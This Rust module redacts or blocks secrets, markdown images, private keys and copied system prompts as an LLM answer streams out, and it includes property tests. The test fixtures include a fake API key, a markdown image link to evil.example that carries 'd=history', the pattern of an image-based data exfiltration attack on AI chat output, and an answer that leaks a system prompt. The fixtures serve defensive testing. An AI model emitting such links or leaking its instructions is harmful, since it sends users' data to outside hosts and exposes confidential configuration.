//! Output guards on a stream: a part of an answer (a choice's text, a tool call's arguments)
//! arrives a delta at a time; [`release`] lets out what is safe of what is held, redacted,
//! keeping back a short tail in which a value may still be completing, and says when a
//! finding calls for the answer to be blocked, before any of it has gone out.

use crate::scan::{Category, Finding};
use crate::vault::{Operator, Vault, apply};

/// What an output guard does with what it finds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutputAction {
    /// Replaces it by its kind.
    Redact,
    /// Ends the answer.
    Block,
}

/// How much of a part is held back: a value is caught if its pattern matches within this many
/// bytes of its start.
pub const HOLD: usize = 160;

/// What [`release`] let out.
#[derive(Debug, Default)]
pub struct Released {
    /// The text that may go out now (redacted).
    pub text: String,
    /// What was found in it, and what was done.
    pub findings: Vec<(Finding, Option<OutputAction>)>,
    /// A finding calls for the answer to end: nothing of it went out.
    pub blocked: bool,
}

/// Where a held part may be cut: [`HOLD`] from its end, or before an unfinished PEM block or
/// markdown image, never inside a character; all of it when `last`.
fn cut_point(text: &str, last: bool) -> usize {
    if last {
        return text.len();
    }
    let mut cut = text.len().saturating_sub(HOLD);
    if let Some(begin) = text.rfind("-----BEGIN")
        && !text[begin..].contains("-----END")
        && text.len() - begin < 16 * 1024
    {
        cut = cut.min(begin);
    }
    if let Some(image) = text.rfind("![")
        && !text[image..].contains(')')
        && text.len() - image < 4096
    {
        cut = cut.min(image);
    }
    while !text.is_char_boundary(cut) {
        cut -= 1;
    }
    cut
}

/// Lets out what may go of `held` (all of it when `last`), leaving the rest held.
/// `scan` finds what the guards look for (a scanner's findings, with more merged in, in
/// order and without overlaps).
pub fn release(
    held: &mut String,
    scan: impl Fn(&str) -> Vec<Finding>,
    action: impl Fn(Category) -> Option<OutputAction>,
    last: bool,
) -> Released {
    // Nothing can go out of a part shorter than the hold: no need to look yet.
    if !last && held.len() <= HOLD {
        return Released::default();
    }
    let found = scan(held);
    let mut cut = cut_point(held, last);
    // A finding that reaches the end may still grow: held whole.
    for finding in &found {
        if !last && finding.end == held.len() && finding.start < cut {
            cut = finding.start;
        }
    }
    let limit = cut;
    let mut released = Released::default();
    let mut redact = Vec::new();
    for finding in found.into_iter().filter(|finding| finding.start < limit) {
        let chosen = action(finding.category);
        match chosen {
            Some(OutputAction::Block) => released.blocked = true,
            Some(OutputAction::Redact) => {
                cut = cut.max(finding.end);
                redact.push(finding.clone());
            }
            None => {}
        }
        released.findings.push((finding, chosen));
    }
    if released.blocked {
        held.clear();
        return released;
    }
    let rest = held.split_off(cut);
    let ready = std::mem::replace(held, rest);
    released.text = if redact.is_empty() {
        ready
    } else {
        let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, b"unused: labels only");
        apply(
            &ready,
            &redact,
            Operator::Label,
            &mut Vault::default(),
            &key,
        )
    };
    released
}

/// What [`release_pieces`] let out of a part held as the pieces it arrived in.
#[derive(Debug, Default)]
pub struct ReleasedPieces {
    /// How many of the held pieces may go out, from the first.
    pub count: usize,
    /// The bytes of held text those pieces cover.
    pub len: usize,
    /// The pieces among them whose text changed (a redaction), by index, with their new
    /// text; the others go out as they came.
    pub rewritten: Vec<(usize, String)>,
    /// What was found in them, and what was done.
    pub findings: Vec<(Finding, Option<OutputAction>)>,
    /// A finding calls for the answer to end: none of the held pieces may go out.
    pub blocked: bool,
}

/// [`release`] for text that must go out in the pieces it came in (a relayed stream's events,
/// each sent whole or rewritten): lets out the first pieces of `held` (whose lengths are
/// `lengths`, in order) that lie before what must stay held, and says which of them a
/// redaction rewrites. A redaction that crosses from one piece into the next takes both: the
/// first gets the redacted text of them all, the others an empty text. Nothing is taken
/// from `held`: the caller drops the first `len` bytes and `count` pieces.
pub fn release_pieces(
    held: &str,
    lengths: &[usize],
    scan: impl Fn(&str) -> Vec<Finding>,
    action: impl Fn(Category) -> Option<OutputAction>,
    last: bool,
) -> ReleasedPieces {
    let mut released = ReleasedPieces::default();
    if !last && held.len() <= HOLD {
        return released;
    }
    let found = scan(held);
    let mut cut = cut_point(held, last);
    for finding in &found {
        if !last && finding.end == held.len() && finding.start < cut {
            cut = finding.start;
        }
    }
    // The pieces' ends, and how many end at or before the cut.
    let ends: Vec<usize> = lengths
        .iter()
        .scan(0, |end, length| {
            *end += length;
            Some(*end)
        })
        .collect();
    let mut count = ends.partition_point(|end| *end <= cut);
    let limit_of = |count: usize| if count == 0 { 0 } else { ends[count - 1] };
    let mut redact: Vec<Finding> = Vec::new();
    for finding in found {
        if finding.start >= limit_of(count) {
            break;
        }
        let chosen = action(finding.category);
        match chosen {
            Some(OutputAction::Block) => released.blocked = true,
            Some(OutputAction::Redact) => {
                if finding.end > limit_of(count) {
                    // The redacted value goes whole: the pieces up to its end go with it,
                    // unless they reach into what must stay held (the tail, a value still
                    // growing, an unfinished key block): then it waits, with them.
                    let reach = ends.partition_point(|end| *end < finding.end) + 1;
                    if limit_of(reach) > cut {
                        count = ends.partition_point(|end| *end <= finding.start);
                        // A redaction before it that reached into the same piece waits too.
                        while let Some(earlier) = redact.last() {
                            if earlier.end <= limit_of(count) {
                                break;
                            }
                            count = ends.partition_point(|end| *end <= earlier.start);
                            redact.pop();
                        }
                        break;
                    }
                    count = reach;
                }
                redact.push(finding.clone());
            }
            None => {}
        }
        released.findings.push((finding, chosen));
    }
    if released.blocked {
        return released;
    }
    released.count = count;
    released.len = limit_of(count);
    // Held back short of a value: what lies past the new limit is found again later.
    released
        .findings
        .retain(|(finding, _)| finding.start < released.len);
    // Each run of pieces that redactions join is rewritten as one: the first piece carries
    // the run's redacted text.
    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, b"unused: labels only");
    let mut at = 0;
    while at < redact.len() {
        let first = ends.partition_point(|end| *end <= redact[at].start);
        let mut last_piece = ends.partition_point(|end| *end < redact[at].end);
        let mut next = at + 1;
        while next < redact.len() && redact[next].start < ends[last_piece] {
            last_piece = last_piece.max(ends.partition_point(|end| *end < redact[next].end));
            next += 1;
        }
        let start = limit_of(first);
        let end = ends[last_piece];
        let shifted: Vec<Finding> = redact[at..next]
            .iter()
            .map(|finding| Finding {
                start: finding.start - start,
                end: finding.end - start,
                ..finding.clone()
            })
            .collect();
        let text = apply(
            &held[start..end],
            &shifted,
            Operator::Label,
            &mut Vault::default(),
            &key,
        );
        released.rewritten.push((first, text));
        released
            .rewritten
            .extend((first + 1..=last_piece).map(|piece| (piece, String::new())));
        at = next;
    }
    released
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;

    use proptest::prelude::*;

    use super::*;
    use crate::scan::{Scanner, link_recognizers, secret_recognizers};

    fn scanner() -> Scanner {
        let mut recognizers = secret_recognizers();
        recognizers.extend(link_recognizers());
        Scanner::new(recognizers, 0.5, HashMap::new()).expect("scanner")
    }

    const TEXT: &str = "Use sk-ant-api03-Zx8kQ2mP9vL4tR7wN1bC6yH3jF5gD0sAq then look at \
        ![chart](https://evil.example/c.png?d=history) and \
        -----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY----- done.";

    fn stream(cuts: &[usize], action: OutputAction) -> (String, bool) {
        let scanner = scanner();
        let mut held = String::new();
        let (mut out, mut at) = (String::new(), 0);
        let mut points: Vec<usize> = cuts.iter().map(|c| (*c).min(TEXT.len())).collect();
        points.sort_unstable();
        points.push(TEXT.len());
        for (i, point) in points.iter().enumerate() {
            let mut point = *point;
            while !TEXT.is_char_boundary(point) {
                point -= 1;
            }
            held.push_str(&TEXT[at.min(point)..point]);
            at = at.max(point);
            let released = release(
                &mut held,
                |text| scanner.scan(text),
                |_| Some(action),
                i + 1 == points.len(),
            );
            if released.blocked {
                return (out, true);
            }
            out.push_str(&released.text);
        }
        (out, false)
    }

    /// The answer sent in the pieces `cuts` makes, each piece let out whole or rewritten, as
    /// a relayed stream's events are.
    fn stream_pieces(cuts: &[usize], action: OutputAction) -> (String, bool) {
        let scanner = scanner();
        let mut points: Vec<usize> = cuts.iter().map(|c| (*c).min(TEXT.len())).collect();
        points.sort_unstable();
        points.dedup();
        points.push(TEXT.len());
        let (mut held, mut pieces, mut out, mut at) = (String::new(), Vec::new(), String::new(), 0);
        for (i, point) in points.iter().enumerate() {
            let mut point = *point;
            while !TEXT.is_char_boundary(point) {
                point -= 1;
            }
            if point > at {
                held.push_str(&TEXT[at..point]);
                pieces.push(TEXT[at..point].to_owned());
                at = point;
            }
            let lengths: Vec<usize> = pieces.iter().map(String::len).collect();
            let released = release_pieces(
                &held,
                &lengths,
                |text| scanner.scan(text),
                |_| Some(action),
                i + 1 == points.len(),
            );
            if released.blocked {
                return (out, true);
            }
            for (index, piece) in pieces.drain(..released.count).enumerate() {
                match released.rewritten.iter().find(|(at, _)| *at == index) {
                    Some((_, text)) => out.push_str(text),
                    None => out.push_str(&piece),
                }
            }
            held.drain(..released.len);
        }
        assert!(
            pieces.is_empty() && held.is_empty(),
            "all of it goes at the end"
        );
        (out, false)
    }

    /// A redaction that must wait for the pieces after it holds back the redaction before it
    /// when both reach into the same piece: no piece goes out with half a redaction.
    #[test]
    fn a_redaction_waiting_for_later_pieces_holds_back_the_one_before_it() {
        let held = format!("{}{}", "x".repeat(30), "y".repeat(200));
        let finding = |start, end| Finding {
            entity: std::sync::Arc::from("KEY"),
            category: Category::Secret,
            start,
            end,
            score: 1.0,
        };
        let scan = |_: &str| vec![finding(2, 12), finding(15, 40)];
        let released = release_pieces(
            &held,
            &[10, 10, 10, 200],
            scan,
            |_| Some(OutputAction::Redact),
            false,
        );
        assert_eq!((released.count, released.len), (0, 0));
        assert!(released.rewritten.is_empty() && released.findings.is_empty());
        // At the end both go: the pieces they join are one run, its text in the first.
        let released = release_pieces(
            &held,
            &[10, 10, 10, 200],
            scan,
            |_| Some(OutputAction::Redact),
            true,
        );
        assert_eq!(released.count, 4);
        let rewritten: Vec<usize> = released.rewritten.iter().map(|(at, _)| *at).collect();
        assert_eq!(rewritten, vec![0, 1, 2, 3]);
        assert_eq!(
            released.rewritten[0].1,
            format!("xx[KEY]xxx[KEY]{}", "y".repeat(190))
        );
        assert!(
            released.rewritten[1..]
                .iter()
                .all(|(_, text)| text.is_empty())
        );
    }

    proptest! {
        // Each case scans the answer a few dozen times with every recognizer: a few dozen
        // cuttings are plenty.
        #![proptest_config(ProptestConfig::with_cases(24))]

        /// However the answer is cut into deltas, what goes out is the whole answer redacted.
        #[test]
        fn a_stream_is_redacted_the_same_across_any_cut(cuts in proptest::collection::vec(0usize..400, 0..20)) {
            let (out, blocked) = stream(&cuts, OutputAction::Redact);
            prop_assert!(!blocked);
            prop_assert_eq!(
                out,
                "Use [ANTHROPIC_KEY] then look at [MARKDOWN_IMAGE] and [PRIVATE_KEY] done."
            );
        }

        /// A copy of the system prompt is stopped before any of its words go out, however the
        /// answer is cut.
        #[test]
        fn a_copied_system_prompt_is_stopped_across_any_cut(cuts in proptest::collection::vec(0usize..300, 0..20)) {
            let system = "You are Ava, the support assistant of Northwind Bank. Never discuss \
                interest rates before checking the customer's segment.";
            let answer = format!("Sure. My instructions: {system} That is all.");
            let leaks = crate::leak::Leaks::new([system], None);
            let mut points: Vec<usize> = cuts.iter().map(|c| (*c).min(answer.len())).collect();
            points.sort_unstable();
            points.push(answer.len());
            let (mut held, mut out, mut at, mut blocked) = (String::new(), String::new(), 0, false);
            for (i, point) in points.iter().enumerate() {
                held.push_str(&answer[at.min(*point)..*point]);
                at = at.max(*point);
                let released = release(&mut held, |text| leaks.find(text), |_| Some(OutputAction::Block), i + 1 == points.len());
                out.push_str(&released.text);
                if released.blocked {
                    blocked = true;
                    break;
                }
            }
            prop_assert!(blocked);
            prop_assert!(!out.contains("Ava"), "{}", out);
        }

        /// Sent in the pieces it came in, each whole or rewritten, the answer is redacted the
        /// same as when its text is cut anywhere.
        #[test]
        fn pieces_are_redacted_the_same_across_any_cut(cuts in proptest::collection::vec(0usize..400, 0..20)) {
            let (out, blocked) = stream_pieces(&cuts, OutputAction::Redact);
            prop_assert!(!blocked);
            prop_assert_eq!(
                out,
                "Use [ANTHROPIC_KEY] then look at [MARKDOWN_IMAGE] and [PRIVATE_KEY] done."
            );
        }

        /// Nor does a block in pieces let anything of the secret out.
        #[test]
        fn a_block_in_pieces_lets_nothing_of_the_secret_out(cuts in proptest::collection::vec(0usize..400, 0..20)) {
            let (out, blocked) = stream_pieces(&cuts, OutputAction::Block);
            prop_assert!(blocked);
            prop_assert!(!out.contains("sk-ant"), "{}", out);
        }

        /// A block lets nothing of the secret out, however the answer is cut.
        #[test]
        fn a_block_lets_nothing_of_the_secret_out(cuts in proptest::collection::vec(0usize..400, 0..20)) {
            let (out, blocked) = stream(&cuts, OutputAction::Block);
            prop_assert!(blocked);
            prop_assert!(!out.contains("sk-ant"), "{}", out);
            prop_assert!("Use ".starts_with(&out) || out.is_empty(), "{}", out);
        }
    }
}
